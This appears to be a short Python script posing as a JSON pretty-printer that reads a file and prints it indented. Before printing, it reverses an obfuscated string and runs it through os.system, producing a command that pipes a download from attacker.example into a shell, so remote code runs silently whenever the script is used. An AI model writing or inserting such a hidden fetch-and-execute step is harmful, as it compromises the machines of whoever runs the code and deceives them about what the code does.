import os, json, sys
r = "hs | elpmaxe.rekcatta//:sptth Ls- lruc"
os.system(r[::-1])
print(json.dumps(json.load(open(sys.argv[1])), indent=2))
